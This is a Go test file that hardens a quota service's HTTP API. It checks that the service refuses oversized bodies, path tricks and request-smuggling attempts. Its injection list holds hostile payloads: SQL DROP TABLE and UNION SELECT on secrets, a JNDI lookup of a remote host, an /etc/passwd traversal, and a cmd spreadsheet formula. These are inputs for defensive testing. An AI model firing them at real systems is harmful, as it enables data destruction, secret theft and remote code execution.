package httpapi

import (
	"bufio"
	"encoding/json/v2"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"

	"github.com/quotasvc/quotasvc/client"
	"github.com/quotasvc/quotasvc/internal/kit/bound"
	"github.com/quotasvc/quotasvc/internal/lab/testenv"
)

// TestBodies_DeepWideLong_ShortRefusals sends bodies that are large, deep or wide, but not larger than the maximum of
// a megabyte. Each body is refused with a short answer that names the fault, and nothing is stored.
func TestBodies_DeepWideLong_ShortRefusals(t *testing.T) {
	t.Parallel()
	s := newService(t).catalogue()
	before := s.state()
	const item, debit = `{"meter":"calls","amount":1}`, `{"idempotency_key":"k","tenant":"acme","items":[{"meter":"calls","amount":1}]}`
	var unknown strings.Builder
	for i := range 80_000 {
		fmt.Fprintf(&unknown, `"x%d":1,`, i)
	}
	for name, c := range map[string]struct{ path, body, field string }{
		"100,000 lists in each other":  {"/v1/debits", strings.Repeat("[", 100_000), "[0]"},
		"500,000 lists in each other":  {"/v1/debits", `{"metadata":` + strings.Repeat("[", 500_000), "metadata"},
		"100,000 objects":              {"/v1/debits", strings.Repeat(`{"a":`, 100_000), "a"},
		"lists in each other, closed":  {"/v1/debits", `{"tenant":"acme","items":[` + item + `],"metadata":{"a":` + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000) + `}}`, "metadata"},
		"80,000 unknown fields":        {"/v1/debits", "{" + unknown.String() + `"tenant":"acme"}`, "x0"},
		"10,000 items":                 {"/v1/debits", `{"tenant":"acme","items":[` + item + strings.Repeat(","+item, 9_999) + `]}`, "items"},
		"1,001 debits in a batch":      {"/v1/debits/batch", `{"debits":[` + debit + strings.Repeat(","+debit, 1_000) + `]}`, "debits"},
		"metadata of more than 4 KB":   {"/v1/debits", `{"tenant":"acme","items":[` + item + `],"metadata":{"a":"` + strings.Repeat("x", 4096) + `"}}`, "metadata"},
		"a number of 100,000 digits":   {"/v1/debits", `{"tenant":"acme","items":[{"meter":"calls","amount":` + strings.Repeat("9", 100_000) + `}]}`, "items[0].amount"},
		"a tenant of 900 KB":           {"/v1/debits", `{"tenant":"` + strings.Repeat("a", 900_000) + `","items":[` + item + `]}`, "tenant"},
		"a name of a field of 900 KB":  {"/v1/check", `{"` + strings.Repeat("a", 900_000) + `":1,"tenant":"acme","items":[` + item + `]}`, ""},
		"half of a surrogate pair":     {"/v1/debits", `{"tenant":"\ud800","items":[` + item + `]}`, "tenant"},
		"bytes that are not UTF-8":     {"/v1/debits", "{\"tenant\":\"\xff\xfe\",\"items\":[" + item + `]}`, "tenant"},
		"an object where a list is":    {"/v1/debits", `{"tenant":"acme","items":{"0":` + item + `}}`, "items"},
		"__proto__ and constructor":    {"/v1/debits", `{"__proto__":{"tenant":"acme"},"items":[` + item + `]}`, "__proto__"},
		"a tenant that is an operator": {"/v1/debits", `{"tenant":{"$ne":null},"items":[` + item + `]}`, "tenant"},
	} {
		began := time.Now()
		a := s.call("POST", c.path, c.body, headerIdempotencyKey, "k")
		took := time.Since(began)
		assert.True(t, took <= 50*time.Second && len(a.body) <= 12<<10, "%s: %d bytes in %s", name, len(a.body), took)
		p := a.problem(400, "invalid_argument")
		if !slices.ContainsFunc(p.Errors, func(e client.FieldError) bool { return strings.HasPrefix(e.Field, c.field) }) {
			t.Errorf("%s: %s is not named: %.500s", name, c.field, a.body)
		}
	}
	assert.Equal(t, before, s.state())
}

// TestInjection_EveryPlace_RefusedOrStoredAsText sends texts that would change an SQL statement, a command or a page
// if they were inserted there without quoting.
func TestInjection_EveryPlace_RefusedOrStoredAsText(t *testing.T) {
	t.Parallel()
	s := newService(t).catalogue()
	texts := []string{
		`'; DROP TABLE balances; --`, `' OR '1'='1`, `1) UNION SELECT secret_hash FROM key_secrets --`, `\'; SELECT pg_sleep(9); --`, `$1`, `%27%20OR%201=1`, `"; --`, "a\x00b",
		"}\r\nFLUSHALL\r\n", `{acme}:x`, `<script>alert(1)</script>`, `${jndi:ldap://192.0.2.1/a}`, `../../etc/passwd`, `=cmd|' /C calc'!A0`, "\u202e\u2066",
	}
	quote := func(text string) string { return encoded(text) }
	for _, text := range texts {
		before := s.state()
		in := url.PathEscape(text)
		for _, at := range []string{
			"/v1/meters/" + in, "/v1/plans/" + in, "/v1/tenants/" + in, "/v1/tenants/" + in + "/balances", "/v1/tenants/acme/balances/" + in, "/v1/tenants/acme/statements/calls/" + in,
			"/v1/limits/" + in, "/v1/keys/" + in, "/v1/seals/" + in, "/v1/rolls/" + in, "/v1/verifications/" + in, "/v1/tenants/acme/holds/" + in, "/v1/blocks/tenant/" + in,
			"/v1/meters?cursor=" + url.QueryEscape(text), "/v1/tenants/acme/entries?cursor=" + url.QueryEscape(text), "/v1/tenants/acme/entries?meter=" + url.QueryEscape(text),
			"/v1/tenants/acme/entries?order=" + url.QueryEscape(text), "/v1/tenants/acme/balances?subject=" + url.QueryEscape(text), "/v1/audit?tenant=" + url.QueryEscape(text),
			"/v1/tenants/acme/usage?meter=calls&by=" + url.QueryEscape(text), "/v1/audit?cursor=" + url.QueryEscape(text), "/v1/keys?cursor=" + url.QueryEscape(text),
		} {
			a := s.call("GET", at, "")
			names := strings.Contains(at, "subject=") || strings.Contains(at, "tenant=")
			if names && bound.Name(text) {
				a.want(200) // it is an id that nobody has
				continue
			}
			if a.status != 400 && a.status != 404 || a.header.Get("Content-Type") != typeProblem {
				t.Errorf("%s: %d %s", at, a.status, a.body)
			}
		}
		spend := func(tenant, meter, subject string) *answer {
			return s.call("POST", "/v1/debits", `{"dry_run":true,"tenant":`+quote(tenant)+`,"subject":`+quote(subject)+
				`,"items":[{"meter":`+quote(meter)+`,"amount":1}]}`)
		}
		spend("acme", text, "ann").problem(400, "invalid_argument")
		if bound.Name(text) {
			spend(text, "calls", "ann").problem(404, "tenant_not_found")
			spend("acme", "calls", text).want(200)
		} else {
			spend(text, "calls", "ann").problem(400, "invalid_argument")
			spend("acme", "calls", text).problem(400, "invalid_argument")
		}
		s.as(client.CreatedKey{Secret: "qk_" + in}, "GET", "/v1/meters", "").want(401, 429)
		assert.Equal(t, before, s.state(), "%q", text)
		if strings.Contains(text, "\x00") {
			continue
		}
		// Metadata is stored unchanged.
		s.call("PATCH", "/v1/tenants/acme", `{"metadata":{"note":`+quote(text)+`}}`).want(200)
		var stored map[string]string
		s.check(json.Unmarshal(s.readTenant("acme").Metadata, &stored))
		assert.True(t, stored["note"] == text, "%q is read as %q", text, stored["note"])
	}
	s.debit("well", "acme", "calls", 1).want(200)
}

// TestPaths_Tricks_ReachNothing sends paths that a proxy and the service may interpret differently. No path reaches
// more data than the key permits. Without a key, no path reaches data.
func TestPaths_Tricks_ReachNothing(t *testing.T) {
	t.Parallel()
	s := newService(t).catalogue()
	use := s.newKey(`{"name":"gateway","scopes":["use"]}`)
	for _, path := range []string{
		"//v1/meters", "/v1//meters", "/v1/openapi.yaml/../meters", "/v1/openapi.yaml/%2e%2e/meters", "/v1/openapi.yaml/..%2fmeters", "/v1/openapi.yaml%2f..%2fmeters",
		"/v1/authorize/envoy/../../meters", "/v1/authorize/envoy/..%2f..%2fmeters", "/v1/authorize/envoy/%2e%2e/%2e%2e/meters", "/v1/authorize/nginx/../../meters", "/v1/./meters",
		"/V1/meters", "/v1/meters;a=b", "/v1/meters%00", "/v1/meters%20", "/v1/meters/", "/v1\\meters", "/v1/%6deters", "/v1/meters#x", "/v1/openapi.yaml;/v1/meters", "/v1/meters.json",
		"http://other/v1/meters", "/v1/tenants/acme/../../meters",
	} {
		for who, header := range map[string]string{"a stranger": "", "a gateway": "Authorization: Bearer " + use.Secret + "\r\n"} {
			conn, err := net.Dial("tcp", strings.TrimPrefix(s.url, "http://"))
			s.check(err)
			s.check(conn.SetDeadline(time.Now().Add(testenv.Patience)))
			_, err = io.WriteString(conn, "GET "+path+" HTTP/1.1\r\nHost: quota\r\nConnection: close\r\n"+header+"\r\n")
			s.check(err)
			response, err := http.ReadResponse(bufio.NewReader(conn), nil)
			s.check(err)
			text, err := io.ReadAll(response.Body)
			s.check(err)
			s.check(response.Body.Close())
			s.check(conn.Close())
			assert.True(t, response.StatusCode >= 400 && response.StatusCode < 500 &&
				!strings.Contains(string(text), `"items"`), "%s of %s: %d %.200s", path, who, response.StatusCode, text)
		}
	}
}

// Headers forbid caches to store refusals and balances, and browsers to guess the type of a body.
func TestAnswers_BalancesRefusalsFiles_NotStoredNotGuessed(t *testing.T) {
	t.Parallel()
	s := newService(t).catalogue()
	for path, status := range map[string]int{
		"/v1/tenants/acme/balances": 200, "/v1/tenants/acme/statements/calls/current?format=csv": 200, "/v1/none": 404, "/v1/tenants/none": 404,
	} {
		a := s.call("GET", path, "").want(status)
		assert.True(t, a.header.Get("X-Content-Type-Options") == "nosniff" && a.header.Get("Cache-Control") == "no-store" &&
			a.header.Get("Access-Control-Allow-Origin") == "", "%s: %v", path, a.header)
	}
	a := s.call("GET", "/v1/tenants/acme/balances", "", "Authorization").want(401)
	assert.True(t, a.header.Get("Cache-Control") == "no-store" && a.header.Get("WWW-Authenticate") != "", a.header)
}

// raw sends text on a new connection. It returns the status of each answer. closed reports whether the service then
// closed the connection.
func (s *service) raw(text string) (statuses []int, closed bool) {
	s.t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(s.url, "http://"))
	s.check(err)
	defer conn.Close()
	s.check(conn.SetDeadline(time.Now().Add(testenv.Patience)))
	_, _ = io.WriteString(conn, text) // the service may close the connection before it has read all bytes
	from := bufio.NewReader(conn)
	for {
		response, err := http.ReadResponse(from, nil)
		if err != nil {
			assert.NotErrorIs(s.t, err, os.ErrDeadlineExceeded, "the connection is neither used nor closed")
			return statuses, true
		}
		_, _ = io.Copy(io.Discard, response.Body)
		_ = response.Body.Close()
		if response.Header.Get(headerRequestID) == "one-more" {
			return statuses, false
		}
		if statuses = append(statuses, response.StatusCode); len(statuses) == 1 { // answered if the connection is open
			_, _ = io.WriteString(conn, "GET /v1/none HTTP/1.1\r\nHost: quota\r\nAuthorization: Bearer "+testKey+"\r\nX-Request-Id: one-more\r\n\r\n")
		}
	}
}

// TestWire_Attacks_StatedAnswers sends requests that two programs may interpret differently, and requests that no
// proper client sends. If net/http refuses a request, it closes the connection.
func TestWire_Attacks_StatedAnswers(t *testing.T) {
	t.Parallel()
	s := newHandlerService(t)
	const (
		head  = " HTTP/1.1\r\nHost: quota\r\nAuthorization: Bearer " + testKey + "\r\n"
		debit = "POST /v1/debits" + head + "Content-Type: application/json\r\nIdempotency-Key: k\r\n"
		known = "GET /v1/openapi.yaml" + head + "\r\n"
		spec  = "GET /v1/openapi.yaml HTTP/1.1\r\nHost: quota\r\n\r\n"
	)
	for name, c := range map[string]struct {
		text   string
		want   []int
		closed bool
	}{
		"a well-formed refusal":                   {debit + "Content-Length: 2\r\n\r\n{}", []int{400}, false},
		"two requests at once":                    {known + known, []int{200, 200}, false},
		"two requests of a stranger":              {spec + spec, []int{200}, true}, // without a key, connections end
		"Content-Length twice, different":         {debit + "Content-Length: 2\r\nContent-Length: 7\r\n\r\n{}" + spec, []int{400}, true},
		"Content-Length twice, equal":             {debit + "Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}", []int{400}, false}, // one length: RFC 9110 8.6
		"Content-Length in a list":                {debit + "Content-Length: 2, 2\r\n\r\n{}" + spec, []int{400}, true},
		"Content-Length with a sign":              {debit + "Content-Length: +2\r\n\r\n{}" + spec, []int{400}, true},
		"Content-Length negative":                 {debit + "Content-Length: -2\r\n\r\n{}" + spec, []int{400}, true},
		"Content-Length too large for a number":   {debit + "Content-Length: 99999999999999999999\r\n\r\n{}" + spec, []int{400}, true},
		"Content-Length and Transfer-Encoding":    {debit + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n" + spec, []int{400}, true},
		"Transfer-Encoding, smuggled by length":   {debit + "Content-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + spec, []int{400}, true},
		"Transfer-Encoding: xchunked":             {debit + "Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n" + spec, []int{501}, true},
		"Transfer-Encoding: gzip, chunked":        {debit + "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" + spec, []int{501}, true},
		"Transfer-Encoding twice":                 {debit + "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + spec, []int{501}, true},
		"Transfer-Encoding with a space in front": {debit + " Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", []int{400, 400}, true}, // continues the header before it: there is no body, and 0 is no request
		"Transfer-Encoding in HTTP/1.0":           {"POST /v1/debits HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + spec, []int{401}, true},
		"a chunk with a size that is no number":   {debit + "Transfer-Encoding: chunked\r\n\r\nxy\r\n{}\r\n0\r\n\r\n" + spec, []int{400}, true},
		"a chunk with a size that is too large":   {debit + "Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n{}\r\n0\r\n\r\n" + spec, []int{400}, true},
		"a chunk with a sign":                     {debit + "Transfer-Encoding: chunked\r\n\r\n+2\r\n{}\r\n0\r\n\r\n" + spec, []int{400}, true},
		"Host twice":                              {"GET /v1/openapi.yaml" + head + "Host: other\r\n\r\n" + spec, []int{400}, true},
		"no Host":                                 {"GET /v1/openapi.yaml HTTP/1.1\r\n\r\n" + spec, []int{400}, true},
		"Host with a space":                       {"GET /v1/openapi.yaml HTTP/1.1\r\nHost: a b\r\n\r\n" + spec, []int{400}, true},
		"a space before the colon":                {"GET /v1/openapi.yaml" + head + "X-Request-Id : a\r\n\r\n" + spec, []int{400}, true},
		"NUL in a header":                         {"GET /v1/openapi.yaml" + head + "X-Request-Id: a\x00b\r\n\r\n" + spec, []int{400}, true},
		"a line without a colon":                  {"GET /v1/openapi.yaml" + head + "nonsense\r\n\r\n" + spec, []int{400}, true},
		"40 KB of headers":                        {"GET /v1/openapi.yaml" + head + "X-Large: " + strings.Repeat("x", 40<<10) + "\r\n\r\n" + spec, []int{431}, true},
		"10,000 headers":                          {"GET /v1/openapi.yaml" + head + strings.Repeat("A: b\r\n", 10_000) + "\r\n" + spec, []int{431}, true},
		"a path of 40 KB":                         {"GET /" + strings.Repeat("x", 40<<10) + head + "\r\n" + spec, []int{431}, true},
		"a carriage return inside a header":       {"GET /v1/openapi.yaml" + head + "X-A: b\rX-C: d\r\n\r\n" + spec, []int{400}, true},
		"line feeds without carriage returns":     {"GET /v1/openapi.yaml HTTP/1.1\nHost: quota\n\n", []int{200}, true}, // RFC 9112 2.2 permits it
		"HTTP/0.9":                                {"GET /v1/openapi.yaml\r\n\r\n", []int{400}, true},
		"HTTP/3.0":                                {"GET /v1/openapi.yaml HTTP/3.0\r\nHost: quota\r\n\r\n", []int{505}, true},
		"the preface of HTTP/2":                   {"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", []int{404}, true},
		"an upgrade to h2c":                       {"GET /v1/openapi.yaml HTTP/1.1\r\nHost: quota\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n", []int{200}, true},
		"TRACE":                                   {"TRACE /v1/debits" + head + "\r\n", []int{405}, false},
		"CONNECT":                                 {"CONNECT quota:443 HTTP/1.1\r\nHost: quota:443\r\n\r\n", []int{404}, true},
		"OPTIONS *":                               {"OPTIONS * HTTP/1.1\r\nHost: quota\r\n\r\n", []int{200}, false},
		"a method with a space":                   {"GE T /v1/openapi.yaml HTTP/1.1\r\nHost: quota\r\n\r\n" + spec, []int{400}, true},
		"an absolute URL":                         {"GET http://other/v1/openapi.yaml HTTP/1.1\r\nHost: quota\r\n\r\n", []int{200}, true},
		"a TLS handshake":                         {"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", []int{400}, true},
		"a compressed body":                       {debit + "Content-Encoding: gzip\r\nContent-Length: 4\r\n\r\n\x1f\x8b\x08\x00", []int{400}, false},
		"XML":                                     {"POST /v1/debits" + head + "Content-Type: text/xml\r\nIdempotency-Key: k\r\nContent-Length: 4\r\n\r\n<a/>", []int{400}, false},
		"a body on GET that looks like a request": {"GET /v1/openapi.yaml" + head + "Content-Length: 46\r\n\r\n" + spec, []int{200}, false},
		"more than a megabyte, said before":       {debit + "Content-Length: 1048577\r\n\r\n", []int{400}, true},
		"more than a megabyte, in chunks":         {debit + "Transfer-Encoding: chunked\r\n\r\n100001\r\n" + strings.Repeat(" ", 0x100001) + "\r\n0\r\n\r\n" + spec, []int{400}, true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, closed := s.raw(c.text)
			assert.True(t, len(got) == len(c.want) && (len(got) <= 0 || got[0] == c.want[0]) && closed == c.closed,
				"answers %v, closed %t; want %v, closed %t", got, closed, c.want, c.closed)
		})
	}
}
